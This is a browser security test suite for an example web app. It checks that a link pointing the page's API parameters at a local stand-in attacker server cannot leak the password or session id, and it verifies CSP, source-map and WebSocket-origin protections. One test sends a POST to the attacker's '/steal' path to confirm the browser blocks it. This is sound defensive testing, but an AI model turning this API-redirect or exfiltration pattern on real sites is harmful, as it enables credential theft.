import assert from 'assert';
import { mkdtemp, readdir, readFile, rm } from 'fs/promises';
import { tmpdir } from 'os';
import { join } from 'path';
import { BrowserContext, Page } from 'playwright-core';
import { ExampleApp } from '../../backend/src/app';
import { startExample } from '../../backend/src/index';
import { buildWebPage } from '../../frontend/build';
import { AttackerServer, startAttackerServer } from '../helpers/attackerServer';
import { logIn, submitLogin, waitForText } from '../helpers/browserPage';
import { freePort } from '../helpers/freePort';
import { ApiUrls, PageServer, servePage, startExampleApi } from '../helpers/pageHarness';
import { TEST_SECRETS } from '../helpers/sessionServer';
import { silentLogger } from '../helpers/transports';

/**
 * Issue 12 item 1: a link to the real page with `?http=`/`?ws=` pointing at another server must
 * not send that server the password typed into the page or the session id the page holds.
 */
describe('example page in Chromium: a link cannot point the page at another server', function () {
    this.timeout(60_000);
    let served: PageServer | undefined;
    let app: ExampleApp | undefined;
    let attacker: AttackerServer | undefined;
    let contexts: BrowserContext[] = [];
    let apiUrls: ApiUrls = { http: '', ws: '' };

    before(async () => {
        served = await servePage(() => apiUrls);
    });

    after(async () => {
        await served?.stop();
    });

    beforeEach(async () => {
        ({ app, urls: apiUrls } = await startExampleApi(served!.web.origin));
        attacker = await startAttackerServer();
    });

    afterEach(async () => {
        await Promise.all(contexts.map(c => c.close()));
        contexts = [];
        await app?.stop();
        await attacker?.stop();
    });

    async function newDevice(): Promise<BrowserContext> {
        const context = await served!.browser.newContext();
        contexts.push(context);
        context.setDefaultTimeout(10_000);
        return context;
    }

    async function open(device: BrowserContext, query: Record<string, string>): Promise<Page> {
        const page = await device.newPage();
        await page.goto(`${served!.web.origin}/?${new URLSearchParams(query)}`);
        return page;
    }

    /** The page has answered its calls, or the attacker heard from it: whichever comes first. */
    async function settled(page: Page): Promise<void> {
        const pageDone = page.waitForFunction(() => !document.body.hasAttribute('aria-busy') && document.getElementById('account')?.textContent !== '', undefined, { timeout: 5000 });
        const attackerHeard = new Promise<void>(ok => {
            const timer = setInterval(() => {
                const { requests, upgrades } = attacker!.log;
                if (requests.length + upgrades.length > 0) { clearInterval(timer); ok(); }
            }, 20);
            void pageDone.finally(() => clearInterval(timer)).catch(() => undefined);
        });
        await Promise.race([pageDone.catch(() => undefined), attackerHeard]);
        // Calls already on their way get a moment to arrive.
        await page.waitForTimeout(300);
    }

    it('?http=<other host>: the password typed into the page goes to the page\'s own API only', async () => {
        const page = await open(await newDevice(), { http: attacker!.httpUrl, ws: attacker!.wsUrl });
        await page.getByRole('heading', { name: 'Account' }).waitFor();
        await submitLogin(page, 'alice', 'wonderland');
        await settled(page);
        assert.doesNotMatch(attacker!.received, /wonderland/, 'the attacker received the password');
        assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
        await page.getByText('Signed in as Alice').waitFor();
        assert.strictEqual(await page.locator('#server').textContent(), apiUrls.http);
    });

    for (const transport of ['http', 'ws'] as const) {
        it(`after a login over ${transport}, ?http=/?ws=<other host> (transport=${transport}) send the session id nowhere`, async () => {
            const device = await newDevice();
            const first = await open(device, { ...apiUrls, transport });
            await first.getByRole('heading', { name: 'Account' }).waitFor();
            await logIn(first, 'alice', 'wonderland');
            const stored = await first.evaluate(() => Object.values(localStorage).join(' '));
            const sid = /"sid":\{"value":"([^"]+)"/.exec(stored)?.[1];
            assert.ok(sid, 'the login stored a session id');

            // The link an attacker sends: the real page, its API addresses pointing elsewhere.
            const linked = await open(device, { http: transport === 'http' ? attacker!.httpUrl : apiUrls.http, ws: attacker!.wsUrl, transport });
            await settled(linked);
            assert.ok(!attacker!.received.includes(sid.split('.')[0]), 'the attacker received the session id');
            assert.deepStrictEqual(attacker!.log, { requests: [], upgrades: [], messages: [] });
            await linked.getByText('Signed in as Alice').waitFor();
            await waitForText(linked, '#server', apiUrls[transport]);
        });
    }

    it('a production build has no source map, and the page names none', async () => {
        assert.deepStrictEqual((await readdir(served!.outdir)).sort(), ['index.html', 'main.js', 'style.css']);
        assert.doesNotMatch(await readFile(join(served!.outdir, 'main.js'), 'utf8'), /sourceMappingURL/);
        const development = await buildWebPage(await mkdtemp(join(tmpdir(), 'tsrpc-session-page-dev-')), { development: true });
        try {
            assert.ok((await readdir(development)).includes('main.js.map'));
        } finally {
            await rm(development, { recursive: true, force: true });
        }
    });

    it('sends a Content-Security-Policy that lets the page connect to its API servers only and never be framed', async () => {
        const page = await (await newDevice()).newPage();
        const response = await page.goto(`${served!.web.origin}/`);
        const csp = response!.headers()['content-security-policy'];
        assert.ok(csp, 'a Content-Security-Policy header');
        const directives = new Map(csp.split(';').map(d => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
        assert.deepStrictEqual(directives.get('connect-src'), [apiUrls.http, apiUrls.ws]);
        assert.deepStrictEqual(directives.get('frame-ancestors'), ["'none'"]);
        assert.deepStrictEqual(directives.get('default-src'), ["'none'"]);
        // The browser enforces it: a script on the page cannot reach another server.
        await page.getByRole('heading', { name: 'Account' }).waitFor();
        const outcome = await page.evaluate(url => fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'), `${attacker!.httpUrl}/steal`);
        assert.strictEqual(outcome, 'blocked');
        assert.deepStrictEqual(attacker!.log.requests, []);
    });

    it('a page of another origin cannot open the API\'s WebSocket (allowed origins), the example page can', async () => {
        const device = await newDevice();
        const foreign = await device.newPage();
        await foreign.goto(`${attacker!.httpUrl}/`);
        const tryWebSocket = (url: string) => new Promise<string>(ok => {
            const socket = new WebSocket(url);
            socket.onopen = () => { socket.close(); ok('open'); };
            socket.onerror = () => ok('refused');
        });
        assert.strictEqual(await foreign.evaluate(tryWebSocket, apiUrls.ws), 'refused');
        const own = await open(device, {});
        await own.getByRole('heading', { name: 'Account' }).waitFor();
        assert.strictEqual(await own.evaluate(tryWebSocket, apiUrls.ws), 'open');
    });

    it('started from its environment, the page calls the HTTP_PORT and WS_PORT it was given, not 3000/3001', async () => {
        const ports = { WEB_PORT: await freePort(), HTTP_PORT: await freePort(), WS_PORT: await freePort() };
        const example = await startExample({
            ...Object.fromEntries(Object.entries(ports).map(([name, port]) => [name, String(port)])),
            WEB_ROOT: served!.outdir, SESSION_SECRETS: TEST_SECRETS.join(','),
        }, silentLogger);
        try {
            assert.deepStrictEqual(example.api, { httpUrl: `http://127.0.0.1:${ports.HTTP_PORT}`, wsUrl: `ws://127.0.0.1:${ports.WS_PORT}` });
            const page = await (await newDevice()).newPage();
            await page.goto(`http://127.0.0.1:${ports.WEB_PORT}/`);
            await logIn(page, 'alice', 'wonderland');
            assert.strictEqual(await page.locator('#server').textContent(), example.api.httpUrl);
            await page.getByText('WebSocket', { exact: true }).click();
            await waitForText(page, '#server', example.api.wsUrl);
            await logIn(page, 'bob', 'builder');
            assert.ok(example.app.ws.connections.length > 0, 'the page calls over its WebSocket');
        } finally {
            await Promise.all(contexts.map(c => c.close()));
            contexts = [];
            await example.stop();
        }
    });
});
